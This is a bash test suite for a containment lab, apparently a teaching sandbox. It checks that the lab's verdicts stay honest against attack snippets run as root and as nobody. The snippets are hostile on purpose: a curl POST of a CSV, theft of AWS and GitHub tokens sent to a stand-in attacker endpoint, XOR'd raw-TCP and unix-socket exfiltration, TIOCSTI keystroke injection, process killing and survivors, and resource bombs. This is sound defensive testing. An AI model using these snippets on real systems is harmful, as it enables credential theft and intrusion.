#!/usr/bin/env bash
# tests/range_test.sh [BINARY] — the range (docs/layers.md) and honest
# verdicts for snippets a teacher or an attacker would write, as root and
# as uid 65534: every layer off must still leave the machine as it was, and
# a verdict must name what really happened.
set -u
cd "$(dirname "$0")/.." || exit 1
source tests/lib.sh
BIN=$(realpath "${1:-./containment-lab}")
T=$(mktemp -d /tmp/cl-range.XXXXXX)
chmod 755 "$T"
HOMEDIR=""
trap 'rm -rf "$T"; [[ -n $HOMEDIR ]] && rm -rf "$HOMEDIR"; suite_cleanup' EXIT
# a staged copy that uid 65534 can reach; its name marks its processes
LAB=$T/lab-range-$$
cp "$BIN" "$LAB"
cp layers.ini snippets/sales.csv "$T/"
chmod -R a+rX "$T"
LAB_BIN=$LAB LAB_CONFIG=$T/layers.ini # lab() (lib.sh): the copy
# where a check needs one mechanism to fire before the wall clock (the
# output cap, the run-wide memory cap) or a run to end by itself, the
# clocks a loaded machine cannot reach: the check is about the verdict,
# not the machine's speed (at load 45 printing 10 MB took past 5 s)
sed -e 's/^timeout = 5s$/timeout = 60s/' -e 's/^timeout = 30s$/timeout = 120s/' layers.ini >"$T/long.ini"
chmod 644 "$T/long.ini"
nobody() { setpriv --reuid=65534 --regid=65534 --clear-groups "$@"; }

snippet() { # NAME THREAT LAYER BODY
	printf '# lab:title: %s\n# lab:threat: %s\n# lab:layer: %s\n# lab:consequence: test\n%s\n' \
		"$1" "$2" "$3" "$4" >"$T/$1.py"
	chmod 644 "$T/$1.py"
}

before=$(leftovers_snapshot)

# ---- honest resource verdicts: miner, sleeper, printer ----
snippet miner resource limits 'import hashlib, time
t = time.time(); x = b"a"
while time.time() - t < 7:
    x = hashlib.sha256(x).digest()'
snippet sleeper resource limits 'import time
time.sleep(7)'
snippet printer resource limits 'import sys
for i in range(200000): sys.stdout.write("x" * 49 + "\n")'
j=$(lab run "$T/sleeper.py" --off limits --json)
expect_eq "sleeper, limits off: ESCAPED" "$(field 'd["verdict"]' <<<"$j")" "ESCAPED"
expect_contains "sleeper, limits off: says the wall time it took" "$(field 'd["headline"]' <<<"$j")" "of wall time (cap 5.0 s)"
j=$(lab run "$T/sleeper.py" --on all --json)
expect_eq "sleeper, limits on: CONTAINED by Resource-limits" "$(field 'd["verdict"], d["caught_by"]' <<<"$j")" "CONTAINED limits"
expect_contains "sleeper, limits on: names the wall clock" "$(field 'd["headline"]' <<<"$j")" "wall clock at 5.0 s"
j=$(lab run "$T/printer.py" --off limits --json)
expect_contains "printer, limits off: ESCAPED with the output it took" "$(field 'd["verdict"], d["headline"]' <<<"$j")" "of output (cap 64 KiB)"
j=$(lab_with "$T/long.ini" run "$T/printer.py" --on all --json)
expect_contains "printer, limits on: the output cap, with the figures" "$(field 'd["headline"]' <<<"$j")" "output cap: 64 KiB kept of "
j=$(lab run "$T/miner.py" --on all --json)
expect_eq "miner, limits on: CONTAINED" "$(field 'd["verdict"]' <<<"$j")" "CONTAINED"
expect_contains "miner, limits on: names RLIMIT_CPU or the clock" "$(field 'd["headline"]' <<<"$j")" "Resource-limits: "

# ---- no credit without proof ----
snippet shell exfil network 'curl -X POST http://127.0.0.1:9/ -d @/work/sales.csv'
for on in all none; do
	j=$(lab run "$T/shell.py" --on $on --json)
	expect_eq "shell commands in a .py (--on $on): BROKE, no layer credited" \
		"$(field 'd["verdict"], d["caught_by"]' <<<"$j")" "BROKE None"
done
expect_contains "BROKE says why and where" "$(field 'd["headline"]' <<<"$j")" "SyntaxError at line 5"
lab run "$T/shell.py" --on all >/dev/null
expect_eq "BROKE: run exits 5" "$?" 5
snippet quiet exfil network 'print("I will not try")'
j=$(lab run "$T/quiet.py" --off network --json)
expect_eq "an attack that does nothing with its layer off: BROKE, not CONTAINED" "$(field 'd["verdict"]' <<<"$j")" "BROKE"

# ---- real homes are hidden, whatever the layers ----
if [[ $(id -u) == 0 ]]; then
	HOMEDIR=$(mktemp -d /home/cl-range-student.XXXXXX)
	mkdir -p "$HOMEDIR/.aws"
	echo "aws_secret_access_key = REALSECRET$$" >"$HOMEDIR/.aws/credentials"
	chmod -R a+rX "$HOMEDIR"
	snippet homes secrets env 'import glob
for p in glob.glob("/home/*/.aws/credentials") + glob.glob("/root/.aws/credentials") + glob.glob("/root/*"):
    try: print(p, open(p).read())
    except Exception as e: print(p, e)
print("homes looked")'
	for who in root nobody; do
		if [[ $who == root ]]; then out=$(lab run "$T/homes.py" --on none); else out=$(nobody "$LAB" --config "$T/layers.ini" run "$T/homes.py" --on none); fi
		# the control: the snippet ran to its end, so the secret's absence means something
		expect_contains "a real home's secret: the snippet looked, every layer off ($who)" "$out" "homes looked"
		expect_not_contains "a real home's secret stays out, every layer off ($who)" "$out" "REALSECRET$$"
	done
else
	skip "a real home's secret stays out" "needs root to plant a home folder"
fi

# ---- runs cannot see each other; /tmp and /dev/shm are private ----
snippet peek takeover isolation 'import glob, time, os
time.sleep(1)
print("runs seen:", len(glob.glob("/tmp/containment-lab.*")))
open("/dev/shm/cl-shm-'$$'", "wb").write(b"x" * (8 << 20))
for p in ("/etc/cl-range-'$$'", "/var/tmp/cl-range-'$$'", "/usr/cl-range-'$$'"):
    try: open(p, "w").write("x"); print("wrote", p)
    except OSError as e: print(p, e.strerror)'
for who in root nobody; do
	runner=(); [[ $who == nobody ]] && runner=(setpriv --reuid=65534 --regid=65534 --clear-groups)
	"${runner[@]}" "$LAB" --config "$T/layers.ini" run "$T/peek.py" --on none >"$T/peek1.out" &
	p1=$!
	out=$("${runner[@]}" "$LAB" --config "$T/layers.ini" run "$T/peek.py" --on none)
	wait $p1
	# the control: both runs went through to the last write they try, so
	# neither absence below passes for a run that never happened
	expect_contains "two concurrent runs, every layer off: the first ran to its end ($who)" "$(cat "$T/peek1.out")" "/usr/cl-range-$$"
	expect_contains "... and the second ($who)" "$out" "/usr/cl-range-$$"
	expect_contains "two concurrent runs, every layer off: each sees only its own folder ($who)" "$out$(cat "$T/peek1.out")" "runs seen: 1"
	expect_not_contains "... and never the other's ($who)" "$out$(cat "$T/peek1.out")" "runs seen: 2"
	expect_not_contains "no write outside the decoy host folder ($who)" "$out" "wrote /"
	check "/dev/shm is private: nothing left on the host ($who)" test ! -e "/dev/shm/cl-shm-$$"
	check "/etc, /var/tmp, /usr untouched ($who)" test ! -e "/etc/cl-range-$$" -a ! -e "/var/tmp/cl-range-$$" -a ! -e "/usr/cl-range-$$"
done

# ---- a snippet that attacks the lab itself, every layer off ----
snippet hunter resource limits 'import os, signal, time
me = os.getpid()
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        cmd = open("/proc/%s/cmdline" % pid, "rb").read()
    except OSError:
        continue
    # PID 1 is the init of the run, a fork of the lab: tried below
    if b"lab-range-" in cmd and int(pid) not in (me, 1):
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try: os.kill(int(pid), sig); print("signalled", pid)
            except OSError as e: print(pid, e.strerror)
for sig in (signal.SIGSTOP, signal.SIGKILL):
    try: os.kill(1, sig)
    except OSError as e: print("pid 1", e.strerror)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "41.5"])
    os._exit(0)
print("survivor planted")'
for who in root nobody; do
	runner=(); [[ $who == nobody ]] && runner=(setpriv --reuid=65534 --regid=65534 --clear-groups)
	start=$(date +%s)
	out=$(timeout 120 "${runner[@]}" "$LAB" --config "$T/layers.ini" run "$T/hunter.py" --on none); rc=$?
	expect_contains "a snippet hunting the lab, every layer off: the lab still gives a verdict ($who)" "$out" "survivor planted"
	# the survivor sleeps 41.5 s: a lab that waited for it would take that long
	check "... it did not wait for the survivor's 41.5 s sleep ($who)" test $(($(date +%s) - start)) -lt 41
	expect_not_contains "... and reached no lab process ($who)" "$out" "signalled"
	check "... and its double-forked survivor is gone ($who)" sh -c '! pgrep -f "^sleep 41[.]5" >/dev/null'
	[[ $rc -le 5 ]] && ok "... exit status is a verdict's ($who: $rc)" || not_ok "... exit status is a verdict's ($who)" "got $rc"
done

# ---- exec never shares the host ----
for d in / /tmp /home; do
	err=$(cd "$d" && "$LAB" --config "$T/layers.ini" exec --off isolation -- /bin/ls 2>&1); rc=$?
	expect_eq "exec from $d is refused (exit 2)" "$rc" 2
	expect_contains "exec from $d says why" "$err" "cd into a project folder"
done
out=$(cd "$T" && "$LAB" --config "$T/layers.ini" exec --on none -- /bin/ls /root /home 2>&1)
expect_eq "exec, every layer off: the real homes are empty" "$out" "/home:

/root:"

# ---- no controlling terminal: TIOCSTI cannot type into the user's shell ----
if command -v script >/dev/null; then
	cat >"$T/sti.py" <<'EOF'
import fcntl, termios, os
for fd in (0, 1):
    try:
        for ch in b"touch " + os.environ.get("INJ", "/nonexistent").encode() + b"\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
        print("typed into fd", fd)
    except OSError as e:
        print("TIOCSTI on fd", fd, e.strerror)
EOF
	chmod 644 "$T/sti.py"
	inj=$T/injected
	out=$(cd "$T" && INJ=$inj timeout 20 script -qec "$LAB --config $T/layers.ini exec --on none -- $PY $T/sti.py; read -t 2 line && eval \"\$line\"" /dev/null 2>&1)
	# the command's terminal is a pty of the lab's (termpty.c): TIOCSTI there
	# types only into the command's own input, never the caller's shell
	expect_contains "exec, every layer off: the TIOCSTI probe ran (on the lab's pty, or refused)" "$out" "fd 0"
	check "... and nothing was typed into the caller's shell" test ! -e "$inj"
else
	skip "TIOCSTI refused" "script(1) is not installed (apt-get install bsdutils)"
fi

# ---- rootless memory: the run's total, not per process ----
snippet memkids resource limits 'import os, time
kids = []
for i in range(12):
    p = os.fork()
    if p == 0:
        b = bytearray(100 << 20)
        for j in range(0, len(b), 4096): b[j] = 1
        time.sleep(1.5); os._exit(0)
    kids.append(p)
for p in kids: os.waitpid(p, 0)
print("held")'
j=$(nobody "$LAB" --config "$T/long.ini" run "$T/memkids.py" --on all --json)
expect_eq "rootless, 12 x 100 MiB children, limits on: never CONTAINED past the cap" \
	"$(field '"over" if d["measured"]["peak_mem_bytes"] > 256<<20 and d["verdict"] == "CONTAINED" else "honest"' <<<"$j")" "honest"
expect_contains "... the lab's run-wide memory cap ended it" "$(field '" ".join(d["evidence"])' <<<"$j")" "run-wide memory cap"
expect_contains "... and it says the total was sampled" "$(field '" ".join(d["evidence"])' <<<"$j")" "the run's total, sampled by the lab"
j=$(nobody "$LAB" --config "$T/layers.ini" run "$T/memkids.py" --off limits --json)
expect_eq "rootless, limits off: ESCAPED" "$(field 'd["verdict"]' <<<"$j")" "ESCAPED"

# ---- what the red team found (each failed before its fix) ----
snippet knobs takeover isolation 'import os
for p in ("/proc/sys/kernel/domainname", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"):
    try: os.close(os.open(p, os.O_WRONLY)); print("WRITABLE", p)
    except OSError as e: print(p, e.strerror)
print("dev:", sorted(os.listdir("/dev")))'
out=$(lab run "$T/knobs.py" --on none)
expect_not_contains "every layer off, root lab: /proc/sys and sysrq-trigger are read-only" "$out" "WRITABLE"
expect_contains "... and /dev holds no disk and no terminal" "$out" "dev: ['fd', 'full', 'null', 'random', 'shm', 'stderr', 'stdin', 'stdout', 'urandom', 'zero']"

snippet burn resource limits 'import os, sys, time
for i in range(2):
    if os.fork() == 0:
        last = 0
        while True:
            c = time.process_time()
            if c - last >= 0.1:
                print("child", i, "cpu", round(c, 2), flush=True); last = c
time.sleep(3)'
j=$(lab run "$T/burn.py" --on none --json)
# what the two orphans said they had burnt when the run ended them, against
# what the lab counted (load on the machine changes the first, not the rule)
burnt=$($PY -c '
import json, re, sys
d = json.load(sys.stdin)
last = {}
for k, c in re.findall(r"child (\d) cpu ([0-9.]+)", d["output"]):
    last[k] = float(c)
ok = len(last) == 2 and d["measured"]["cpu_s"] >= sum(last.values()) - 0.05
print("counted" if ok else "said %s, counted %s" % (last, d["measured"]["cpu_s"]))' <<<"$j")
expect_eq "CPU burnt by processes the snippet left behind is counted" "$burnt" "counted"
expect_eq "... and past the 2 s cap it is ESCAPED, under it BROKE" "$(field '("ESCAPED" if d["measured"]["cpu_s"] > 2 else "BROKE") == d["verdict"]' <<<"$j")" "True"

snippet victim exfil network 'import time
time.sleep(3)'
snippet poisoner exfil network 'import socket, time
time.sleep(0.5)
for line in open("/proc/net/tcp").readlines()[1:]:
    f = line.split()
    if f[3] == "0A" and f[1].startswith("0100007F:"):
        try:
            s = socket.create_connection(("127.0.0.1", int(f[1].split(":")[1], 16)), timeout=1)
            s.sendall(b"POST / HTTP/1.0\r\nContent-Length: 5\r\n\r\nhello"); s.close()
        except OSError: pass'
lab_with "$T/long.ini" run "$T/victim.py" --on all --json >"$T/victim.json" &
vp=$!
lab run "$T/poisoner.py" --on none >/dev/null
wait $vp
# the victim only sleeps: no attempt for No-network to meet (issue 17), so BROKE, never ESCAPED
expect_eq "another run's bytes at this run's attacker do not make it ESCAPED (it made no attempt: BROKE)" "$(field 'd["verdict"], d["caught_by"]' <"$T/victim.json")" "BROKE None"

snippet steal secrets env 'import os, urllib.request
blob = " ".join(os.environ.get("AWS_SECRET_ACCESS_KEY", ""))
print("spaced:", blob)
urllib.request.urlopen(os.environ["LAB_ATTACKER"], data=os.environ.get("GITHUB_TOKEN", "")[::-1].encode()).read()'
j=$(lab run "$T/steal.py" --on none --json)
expect_eq "secrets spaced out in the output or sent backwards to the attacker: ESCAPED" "$(field 'd["verdict"]' <<<"$j")" "ESCAPED"
expect_contains "... both found" "$(field '" ".join(d["evidence"])' <<<"$j")" "AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN"

if [[ $(id -u) == 0 ]]; then
	sock=/run/cl-range-$$.sock
	$PY -c '
import socket, sys, os
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); os.chmod(sys.argv[1], 0o777); s.listen(4); s.settimeout(8)
try:
    c, _ = s.accept(); open(sys.argv[2], "wb").write(c.recv(65536))
except OSError: pass' "$sock" "$T/unix.got" &
	up=$!
	sleep 0.3
	snippet unixx exfil network 'import socket, os
s = socket.socket(socket.AF_UNIX); s.connect("'"$sock"'")
s.sendall(open(os.environ["LAB_DATA"], "rb").read())'
	j=$(lab run "$T/unixx.py" --on network,env,limits --json)
	kill $up 2>/dev/null; wait $up 2>/dev/null; rm -f "$sock"
	check "No-network on, Isolation off: a host unix socket gets nothing" test ! -s "$T/unix.got"
	expect_contains "... the snippet was refused a unix socket" "$(field 'd["output"]' <<<"$j")" "Address family not supported"
else
	skip "No-network refuses host unix sockets" "needs root to listen in /run"
fi

snippet deep takeover isolation 'import os
os.chdir(os.path.dirname(os.environ["LAB_HOST_TARGET"]))
for i in range(40):
    os.mkdir("D" * 250); os.chdir("D" * 250)
open("m", "w").write("x")'
lab run "$T/deep.py" --on none >/dev/null
# the control that it ran (the leftovers check at the end judges its folders):
# a folder too deep for the lab to search is a way back in, ESCAPED
expect_eq "folders 40 deep in the host folder: the run gave its verdict (ESCAPED, exit 1)" "$?" 1
snippet memfd resource limits 'import os, time
for k in range(8):
    if os.fork() == 0:
        fds = []
        for i in range(60):
            fd = os.memfd_create("x"); os.ftruncate(fd, 1 << 20)
            os.pwrite(fd, b"\1" * (1 << 20), 0); fds.append(fd)
        time.sleep(1.5); os._exit(0)
time.sleep(2)'
j=$(nobody "$LAB" --config "$T/layers.ini" run "$T/memfd.py" --on all --json)
expect_eq "rootless, 480 MiB held in memfds, limits on: seen, never CONTAINED past the cap" \
	"$(field '"seen" if d["measured"]["peak_mem_bytes"] > 256<<20 and d["verdict"] != "CONTAINED" else d["verdict"] + " " + str(d["measured"]["peak_mem_bytes"])' <<<"$j")" "seen"

# ---- red team round 3: raw bytes to the attacker without the run's token ----
# XOR'd CSV on a plain TCP connection, no HTTP head, no token: the lab ties
# the connection to the run by its peer socket, held by the run's process
snippet xorraw exfil network 'import os, socket, urllib.parse
u = urllib.parse.urlparse(os.environ["LAB_ATTACKER"])
enc = bytes(b ^ 0x55 for b in open(os.environ["LAB_DATA"], "rb").read())
s = socket.create_connection((u.hostname, u.port), timeout=3)
s.sendall(enc); s.shutdown(socket.SHUT_WR)
try: print("reply", s.recv(100))
except Exception as e: print(e)
print("sent", len(enc))'
for who in root nobody; do
	for on in isolation none env,limits; do
		if [[ $who == root ]]; then j=$(lab run "$T/xorraw.py" --on $on --json); else j=$(nobody "$LAB" --config "$T/layers.ini" run "$T/xorraw.py" --on $on --json); fi
		expect_eq "$who: XOR'd CSV to the attacker without the token (--on $on): ESCAPED, tied to the run by its socket" \
			"$(field 'd["verdict"], d["measured"]["attacker_from_run"], d["measured"]["attacker_bytes"] > 3000, "another run" in " ".join(d["evidence"])' <<<"$j")" \
			"ESCAPED True True False"
	done
done
# a local user against a run's listeners with No-network off: they are in
# the run's own network namespace, so none is on the host's loopback to
# connect to (tests/multiuser_test.sh crowds and forges at length)
snippet idle exfil network 'import time
time.sleep(3)
print("slept")'
cat >"$T/stranger.py" <<'PY'
import socket, sys, time
held = []
for p in map(int, sys.argv[1:]):
    s = socket.create_connection(("127.0.0.1", p), timeout=2)
    s.sendall(b"\x13" * 4000)
    held.append(s)
time.sleep(1.5)
PY
tree_pids() { # PID and its descendants, as "a|b|c"
	local out=$1 c
	for c in $(pgrep -P "$1"); do out+="|$(tree_pids "$c")"; done
	echo "$out"
}
for who in root nobody; do
	if [[ $who == root ]]; then lab run "$T/idle.py" --off network --json >"$T/idle.json" & else nobody "$LAB" --config "$T/layers.ini" run "$T/idle.py" --off network --json >"$T/idle.json" & fi
	vp=$!
	ports=""
	for _ in $(seq 50); do
		ports=$(ss -Hltnp 2>/dev/null | grep -E "pid=($(tree_pids "$vp"))," | awk '{print $4}' | sed -n 's/^127\.0\.0\.1://p' | tr '\n' ' ')
		[[ $(wc -w <<<"$ports") -ge 2 ]] && break
		sleep 0.05
	done
	# shellcheck disable=SC2086 # the ports are words
	[[ -n $ports ]] && $PY "$T/stranger.py" $ports
	wait $vp
	expect_eq "$who: an idle run (No-network off) has no listener on the host's 127.0.0.1 for a stranger" "$ports" ""
	expect_eq "$who: ... and nothing reached its attacker: BROKE" \
		"$(field 'd["verdict"], d["measured"]["attacker_from_run"], d["measured"]["attacker_bytes"]' <"$T/idle.json")" \
		"BROKE False 0"
done

after=$(leftovers_snapshot)
expect_eq "nothing left behind (temp folders, cgroups, processes, mounts)" "$after" "$before"
finish
